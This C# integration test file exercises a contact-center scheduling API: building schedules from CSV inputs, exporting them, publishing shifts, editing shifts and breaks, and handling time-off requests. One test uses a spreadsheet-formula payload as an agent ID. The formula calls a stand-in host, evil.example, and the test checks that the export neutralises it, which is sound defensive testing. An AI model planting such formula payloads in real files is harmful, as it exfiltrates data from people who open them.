using System.Globalization;
using System.Net.Http.Json;
using System.Net;
using System.Text.Json;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using Wfm.Core.Directory;

namespace Wfm.Server.Tests;

/// <summary>Schedules over HTTP: made from the three files, stored, exported and published to the demo agents' shifts.</summary>
[Collection(ServerCollection.Name)]
public sealed class SchedulingApiTests(ServerFixture server)
{
    private static readonly DateTime Monday = new(2027, 3, 1);

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private static string Requirements()
    {
        var csv = new StringBuilder("timestamp,queue,required_agents\n");
        for (var slot = 0; slot < 7 * 48; slot++)
        {
            var at = Monday.AddMinutes(30 * slot);
            var weekend = at.DayOfWeek is DayOfWeek.Saturday or DayOfWeek.Sunday;
            var agents = weekend ? (at.Hour is >= 9 and < 17 ? 2 : 0) : at.Hour switch { >= 8 and < 12 => 3, >= 12 and < 16 => 5, >= 16 and < 20 => 2, _ => 0 };
            csv.Append(CultureInfo.InvariantCulture, $"{at:yyyy-MM-dd HH:mm},voice-support,{agents}\n");
        }

        return csv.ToString();
    }

    private static string Agents(string extra = "") =>
        "id,skills,min_hours,max_hours,max_days,max_consecutive_days,min_rest_hours\n"
        + string.Concat(Enumerable.Range(1, 14).Select(i => $"agent-{i:000},voice-support,0,40,5,5,11\n")) + extra;

    private const string Rules = """
        { "templates": [ { "name": "day", "lengthsMinutes": [480, 540], "earliestStart": "07:00", "latestStart": "12:00" } ],
          "breaks": [ { "name": "break", "minutes": 30, "windowFromMinutes": 60, "windowToMinutes": 150 },
                      { "name": "lunch", "minutes": 30, "windowFromMinutes": 210, "windowToMinutes": 300, "paid": false } ] }
        """;

    [Fact]
    public async Task ScheduleCsv_NeutralisesAnAgentIdThatIsASpreadsheetFormula()
    {
        var agents = Agents().Replace("agent-001,", "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",", StringComparison.Ordinal);
        var created = await (await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = agents, rulesJson = Rules, timeLimitSeconds = 5 }, Ct))
            .Content.ReadFromJsonAsync<JsonElement>(Ct);

        var csv = await server.Client.GetStringAsync($"api/schedules/{created.GetProperty("id").GetInt64()}/schedule.csv", Ct);

        Assert.Contains("\"'=HYPERLINK(", csv);
        Assert.DoesNotContain("\n\"=HYPERLINK(", csv);
        Assert.DoesNotContain("\n=HYPERLINK(", csv);
    }

    [Fact]
    public async Task Schedule_IsMadeStoredExported_AndPublishedIntoTheShifts()
    {
        var response = await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = Agents(), rulesJson = Rules, name = "March week", timeLimitSeconds = 10 }, Ct);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var schedule = await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
        var id = schedule.GetProperty("id").GetInt64();
        Assert.Equal("March week", schedule.GetProperty("name").GetString());
        Assert.Equal(0, schedule.GetProperty("unmet").GetInt32());
        var result = schedule.GetProperty("result");
        var shifts = result.GetProperty("shifts");
        Assert.True(shifts.GetArrayLength() > 0);
        var coverage = result.GetProperty("coverage")[0];
        Assert.Equal("voice-support", coverage.GetProperty("skill").GetString());
        var required = coverage.GetProperty("required").EnumerateArray().Select(x => x.GetDouble()).ToArray();
        var scheduled = coverage.GetProperty("scheduled").EnumerateArray().Select(x => x.GetInt32()).ToArray();
        Assert.All(required.Zip(scheduled), p => Assert.True(p.Second >= p.First));
        Assert.True(result.GetProperty("quality").GetProperty("lowerBoundPaidHours").GetDouble() > 0);

        var csv = await server.Client.GetStringAsync($"api/schedules/{id}/schedule.csv", Ct);
        Assert.StartsWith("agent_id,date,skill,start,end,paid_hours,breaks", csv);
        Assert.Contains("<svg", await server.Client.GetStringAsync($"api/schedules/{id}/coverage.svg", Ct));
        var first = shifts[0];
        var agent = first.GetProperty("agentId").GetString()!;
        var ics = await server.Client.GetStringAsync($"api/schedules/{id}/agents/{agent}.ics", Ct);
        Assert.Contains("BEGIN:VEVENT", ics);

        var published = await server.Client.PostAsync($"api/schedules/{id}/publish", null, Ct);
        Assert.Equal(HttpStatusCode.OK, published.StatusCode);
        Assert.True((await published.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("agentDays").GetInt32() >= 7);
        var date = first.GetProperty("date").GetString();
        var plan = await server.Client.GetFromJsonAsync<JsonElement>($"api/shifts/{agent}/{date}", Ct);
        var kinds = plan.EnumerateArray().Select(a => a.GetProperty("kind").ToString()).ToList();
        Assert.Contains(kinds, k => k is "Work" or "0");
        Assert.Contains(kinds, k => k is "Lunch" or "2");
        Assert.Equal(plan.EnumerateArray().Count(), first.GetProperty("breaks").GetArrayLength() * 2 + 1);
        var listed = await server.Client.GetFromJsonAsync<JsonElement>("api/schedules", Ct);
        Assert.Contains(listed.EnumerateArray(), s => s.GetProperty("id").GetInt64() == id && s.GetProperty("publishedAt").ValueKind == JsonValueKind.String);
    }

    [Fact]
    public async Task Schedule_BadAgentRow_IsNamed_AndNothingIsStored()
    {
        var before = (await server.Client.GetFromJsonAsync<JsonElement>("api/schedules", Ct)).GetArrayLength();

        var response = await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = Agents("agent-015,email-support,0,40,5,5,11\n"), rulesJson = Rules }, Ct);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var text = await response.Content.ReadAsStringAsync(Ct);
        Assert.Contains("agents row 16", text);
        Assert.Contains("unknown skill 'email-support'", text);
        Assert.Equal(before, (await server.Client.GetFromJsonAsync<JsonElement>("api/schedules", Ct)).GetArrayLength());
    }

    [Fact]
    public async Task Publish_AgentsNotInTheCenter_IsRefused()
    {
        var agents = "id,skills,max_hours\n" + string.Concat(Enumerable.Range(1, 14).Select(i => $"temp-{i:00},voice-support,40\n"));
        var created = await (await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = agents, rulesJson = Rules, timeLimitSeconds = 5 }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);

        var response = await server.Client.PostAsync($"api/schedules/{created.GetProperty("id").GetInt64()}/publish", null, Ct);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("temp-01", await response.Content.ReadAsStringAsync(Ct));
    }

    [Fact]
    public async Task DemoWeek_IsScheduledForTheCentersOwnAgentsContractsAndRuleSet_WithoutFiles_AndCanBeEdited()
    {
        var demo = await server.Client.GetFromJsonAsync<JsonElement>("api/schedules/demo-inputs", Ct);
        var body = JsonSerializer.Deserialize<Dictionary<string, JsonElement>>(demo.GetRawText())!;
        body["timeLimitSeconds"] = JsonSerializer.SerializeToElement(10);
        body["teamIds"] = JsonSerializer.SerializeToElement(new[] { "team-anatolia" });

        var response = await server.Client.PostAsJsonAsync("api/schedules/center", body, Ct);
        var wrongRules = await server.Client.PostAsJsonAsync("api/schedules/center", new { start = "2027-03-01", requirements = Array.Empty<object>(), ruleSetId = "nope" }, Ct);

        Assert.Equal("standard", demo.GetProperty("ruleSetId").GetString());
        var plan = await server.Client.GetFromJsonAsync<JsonElement>($"api/staffing/plans/{demo.GetProperty("staffingPlanId").GetInt64()}", Ct);
        Assert.Equal(4, plan.GetProperty("plan").GetProperty("queues").GetArrayLength());
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync(Ct));
        var schedule = await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
        var shifts = schedule.GetProperty("result").GetProperty("shifts").EnumerateArray().ToList();
        var directory = server.Factory.Services.GetRequiredService<IContactCenterDirectory>();
        Assert.NotEmpty(shifts);
        Assert.All(shifts, s => Assert.Equal("team-anatolia", directory.FindAgent(s.GetProperty("agentId").GetString()!)!.TeamId));
        Assert.Equal(HttpStatusCode.BadRequest, wrongRules.StatusCode);
        Assert.Contains("'nope' is not an active rule set", await wrongRules.Content.ReadAsStringAsync(Ct));

        // One queue's coverage chart, for a center with many queues.
        var id = schedule.GetProperty("id").GetInt64();
        var voiceOnly = await server.Client.GetStringAsync($"api/schedules/{id}/coverage.svg?skill=voice-sales&lang=fa", Ct);
        var unknownSkill = await server.Client.GetAsync($"api/schedules/{id}/coverage.svg?skill=nothing", Ct);
        Assert.Contains("voice-sales", voiceOnly);
        Assert.DoesNotContain("chat-support", voiceOnly);
        Assert.Equal(HttpStatusCode.NotFound, unknownSkill.StatusCode);

        // Edits read the problem stored with the schedule: no files to parse again.
        var first = shifts[0];
        var removed = await server.Client.PostAsJsonAsync($"api/schedules/{schedule.GetProperty("id").GetInt64()}/edits",
            new { agentId = first.GetProperty("agentId").GetString(), date = first.GetProperty("date").GetString(), remove = true }, Ct);
        Assert.True(removed.IsSuccessStatusCode, await removed.Content.ReadAsStringAsync(Ct));
        Assert.Equal(shifts.Count - 1, (await removed.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("result").GetProperty("shifts").GetArrayLength());
    }

    [Fact]
    public async Task Edit_MovesAShift_ReportsTheRestItBreaks_AndRemovingUpdatesCoverage()
    {
        var created = await (await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = Agents(), rulesJson = Rules, timeLimitSeconds = 5 }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);
        var id = created.GetProperty("id").GetInt64();

        // agent-001 works Monday 12:00–20:00 and Tuesday from 07:00: 11 hours of rest is the minimum, so 12:00–21:00 breaks it.
        var monday = await server.Client.PostAsJsonAsync($"api/schedules/{id}/edits", new { agentId = "agent-001", date = "2027-03-01", start = "12:00", lengthMinutes = 540 }, Ct);
        Assert.Equal(HttpStatusCode.OK, monday.StatusCode);
        var tuesday = await server.Client.PostAsJsonAsync($"api/schedules/{id}/edits", new { agentId = "agent-001", date = "2027-03-02", start = "07:00", lengthMinutes = 480 }, Ct);
        Assert.Equal(HttpStatusCode.OK, tuesday.StatusCode);
        var edited = (await tuesday.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("result");
        var mine = edited.GetProperty("shifts").EnumerateArray().Where(s => s.GetProperty("agentId").GetString() == "agent-001").ToList();
        Assert.Contains(mine, s => s.GetProperty("start").GetString() == "2027-03-01T12:00:00" && s.GetProperty("end").GetString() == "2027-03-01T21:00:00");
        Assert.Contains(mine, s => s.GetProperty("start").GetString() == "2027-03-02T07:00:00");
        Assert.Contains(edited.GetProperty("violations").EnumerateArray(), v => v.GetProperty("agentId").GetString() == "agent-001" && v.GetProperty("rule").GetString() == "rest between shifts");

        var before = edited.GetProperty("coverage")[0].GetProperty("scheduled").EnumerateArray().Select(x => x.GetInt32()).ToArray();
        var removed = await (await server.Client.PostAsJsonAsync($"api/schedules/{id}/edits", new { agentId = "agent-001", date = "2027-03-02", remove = true }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);
        var after = removed.GetProperty("result").GetProperty("coverage")[0].GetProperty("scheduled").EnumerateArray().Select(x => x.GetInt32()).ToArray();
        var tuesdayEarly = 48 + 15; // Tuesday 07:30 in half hours: at work, before the first break window
        Assert.Equal(before[tuesdayEarly] - 1, after[tuesdayEarly]);
        Assert.DoesNotContain(removed.GetProperty("result").GetProperty("violations").EnumerateArray(), v => v.GetProperty("rule").GetString() == "rest between shifts" && v.GetProperty("agentId").GetString() == "agent-001");

        var bad = await server.Client.PostAsJsonAsync($"api/schedules/{id}/edits", new { agentId = "agent-001", date = "2027-03-03", start = "05:00", lengthMinutes = 480 }, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        Assert.Contains("no shift template allows", await bad.Content.ReadAsStringAsync(Ct));
    }

    [Fact]
    public async Task Edit_MovesABreak_AndRefusesOneOutsideTheShiftOrUnknown()
    {
        var created = await (await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = Agents(), rulesJson = Rules, timeLimitSeconds = 5 }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);
        var id = created.GetProperty("id").GetInt64();
        var placed = await server.Client.PostAsJsonAsync($"api/schedules/{id}/edits", new { agentId = "agent-002", date = "2027-03-03", start = "08:00", lengthMinutes = 480 }, Ct);
        Assert.Equal(HttpStatusCode.OK, placed.StatusCode);

        // The break window is 60–150 minutes after the start: 10:00 is inside, the lunch stays where it was.
        var moved = await server.Client.PostAsJsonAsync($"api/schedules/{id}/edits", new { agentId = "agent-002", date = "2027-03-03", breaks = new[] { new { name = "break", start = "10:00" } } }, Ct);
        Assert.Equal(HttpStatusCode.OK, moved.StatusCode);
        var shift = (await moved.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("result").GetProperty("shifts").EnumerateArray()
            .Single(s => s.GetProperty("agentId").GetString() == "agent-002" && s.GetProperty("date").GetString() == "2027-03-03");
        Assert.Equal("2027-03-03T08:00:00", shift.GetProperty("start").GetString());
        var breaks = shift.GetProperty("breaks").EnumerateArray().ToDictionary(b => b.GetProperty("name").GetString()!, b => b.GetProperty("start").GetString());
        Assert.Equal("2027-03-03T10:00:00", breaks["break"]);
        Assert.True(breaks.ContainsKey("lunch"));

        var outside = await server.Client.PostAsJsonAsync($"api/schedules/{id}/edits", new { agentId = "agent-002", date = "2027-03-03", breaks = new[] { new { name = "break", start = "15:45" } } }, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, outside.StatusCode);
        Assert.Contains("end within the shift", await outside.Content.ReadAsStringAsync(Ct));
        var unknown = await server.Client.PostAsJsonAsync($"api/schedules/{id}/edits", new { agentId = "agent-002", date = "2027-03-03", breaks = new[] { new { name = "nap", start = "11:00" } } }, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, unknown.StatusCode);
        Assert.Contains("'nap' is not a break of this shift", await unknown.Content.ReadAsStringAsync(Ct));

        var stored = await server.Client.GetFromJsonAsync<JsonElement>($"api/schedules/{id}", Ct);
        var still = stored.GetProperty("result").GetProperty("shifts").EnumerateArray().Single(s => s.GetProperty("agentId").GetString() == "agent-002" && s.GetProperty("date").GetString() == "2027-03-03");
        Assert.Equal("2027-03-03T10:00:00", still.GetProperty("breaks").EnumerateArray().Single(b => b.GetProperty("name").GetString() == "break").GetProperty("start").GetString());
    }

    [Fact]
    public async Task Requests_TimeOffIsCheckedApprovedAndApplied_SwapCanBeRejected()
    {
        var created = await (await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = Requirements(), agentsCsv = Agents(), rulesJson = Rules, timeLimitSeconds = 5 }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);
        var id = created.GetProperty("id").GetInt64();
        var shifts = created.GetProperty("result").GetProperty("shifts").EnumerateArray().ToList();
        var monday = shifts.First(s => s.GetProperty("date").GetString() == "2027-03-01");
        var agent = monday.GetProperty("agentId").GetString();

        var asked = await server.Client.PostAsJsonAsync($"api/schedules/{id}/requests", new { kind = "time-off", agentId = agent, date = "2027-03-01", note = "doctor" }, Ct);

        Assert.Equal(HttpStatusCode.Created, asked.StatusCode);
        var request = await asked.Content.ReadFromJsonAsync<JsonElement>(Ct);
        Assert.Equal("pending", request.GetProperty("status").GetString());
        var check = request.GetProperty("check");
        Assert.Equal(check.GetProperty("unmetAfter").GetInt32() - check.GetProperty("unmetBefore").GetInt32(), check.GetProperty("newlyShort").GetArrayLength());
        var requestId = request.GetProperty("id").GetInt64();

        var approved = await server.Client.PostAsync($"api/schedules/{id}/requests/{requestId}/approve", null, Ct);
        Assert.Equal(HttpStatusCode.OK, approved.StatusCode);
        Assert.Equal("approved", (await approved.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("status").GetString());
        var after = await server.Client.GetFromJsonAsync<JsonElement>($"api/schedules/{id}", Ct);
        Assert.DoesNotContain(after.GetProperty("result").GetProperty("shifts").EnumerateArray(), s => s.GetProperty("agentId").GetString() == agent && s.GetProperty("date").GetString() == "2027-03-01");
        Assert.Equal(HttpStatusCode.BadRequest, (await server.Client.PostAsync($"api/schedules/{id}/requests/{requestId}/approve", null, Ct)).StatusCode);

        var tuesday = shifts.First(s => s.GetProperty("date").GetString() == "2027-03-02");
        var off = Enumerable.Range(1, 14).Select(i => $"agent-{i:000}").First(a => !shifts.Any(s => s.GetProperty("agentId").GetString() == a && s.GetProperty("date").GetString() == "2027-03-02"));
        var swap = await (await server.Client.PostAsJsonAsync($"api/schedules/{id}/requests", new { kind = "swap", agentId = tuesday.GetProperty("agentId").GetString(), otherAgentId = off, date = "2027-03-02" }, Ct)).Content.ReadFromJsonAsync<JsonElement>(Ct);
        Assert.Equal("pending", swap.GetProperty("status").GetString());
        var rejected = await server.Client.PostAsync($"api/schedules/{id}/requests/{swap.GetProperty("id").GetInt64()}/reject", null, Ct);
        Assert.Equal("rejected", (await rejected.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("status").GetString());
        var unchanged = await server.Client.GetFromJsonAsync<JsonElement>($"api/schedules/{id}", Ct);
        Assert.Contains(unchanged.GetProperty("result").GetProperty("shifts").EnumerateArray(), s => s.GetProperty("agentId").GetString() == tuesday.GetProperty("agentId").GetString() && s.GetProperty("date").GetString() == "2027-03-02");

        var bad = await server.Client.PostAsJsonAsync($"api/schedules/{id}/requests", new { kind = "vacation", agentId = agent, date = "2027-03-03" }, Ct);
        Assert.Equal(HttpStatusCode.BadRequest, bad.StatusCode);
        Assert.Contains("time-off, swap or trade", await bad.Content.ReadAsStringAsync(Ct));
        var listed = await server.Client.GetFromJsonAsync<JsonElement>($"api/schedules/{id}/requests", Ct);
        Assert.Equal(2, listed.GetArrayLength());
    }

    [Fact]
    public async Task Schedule_FromStaffOutput_ReportsTheExpectedServiceLevel()
    {
        // What `wfm staff` writes: forecast contacts and handle time beside the required agents.
        var staffed = string.Join('\n', Requirements().TrimEnd('\n').Split('\n').Select((line, i) =>
        {
            if (i == 0)
            {
                return "timestamp,queue,forecast,aht_seconds,required_agents";
            }

            var f = line.Split(',');
            return $"{f[0]},{f[1]},{int.Parse(f[2], CultureInfo.InvariantCulture) * 6},180,{f[2]}";
        })) + "\n";

        var response = await server.Client.PostAsJsonAsync("api/schedules", new { requirementsCsv = staffed, agentsCsv = Agents(), rulesJson = Rules, timeLimitSeconds = 5, serviceLevel = "80/20", patienceSeconds = 300 }, Ct);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var expected = (await response.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("result").GetProperty("expectedServiceLevel");
        Assert.InRange(expected.GetProperty("voice-support").GetDouble(), 0.5, 1);

        // With the queue's calibration (its agents there 60 % of their logged-in time) the same kind of coverage delivers less.
        var outcomes = new StringWriter();
        Wfm.Planning.Csv.OutcomesCsv.Write(outcomes, new Wfm.Core.Staffing.Calibration.SimulatedCenter(
            new DateOnly(2026, 9, 7), Days: 14, Queue: "voice-support", Availability: 0.6, Patience: Wfm.Core.Staffing.Simulation.PatienceDistribution.Exponential(300)).Run(Ct));
        var imported = await server.Client.PostAsync("api/staffing/calibrations?name=o.csv", new StringContent(outcomes.ToString(), System.Text.Encoding.UTF8, "text/csv"), Ct);
        Assert.True(imported.IsSuccessStatusCode, await imported.Content.ReadAsStringAsync(Ct));
        try
        {
            var calibrated = await server.Client.PostAsJsonAsync("api/schedules", new
            {
                requirementsCsv = staffed, agentsCsv = Agents(), rulesJson = Rules, timeLimitSeconds = 5, serviceLevel = "80/20", patienceSeconds = 300, calibrated = true,
            }, Ct);
            Assert.Equal(HttpStatusCode.Created, calibrated.StatusCode);
            var lower = (await calibrated.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("result").GetProperty("expectedServiceLevel").GetProperty("voice-support").GetDouble();
            Assert.True(lower < expected.GetProperty("voice-support").GetDouble() - 0.05, $"calibrated {lower} against {expected}");
        }
        finally
        {
            await server.Client.DeleteAsync("api/staffing/calibrations/voice-support", Ct);
        }
    }
}
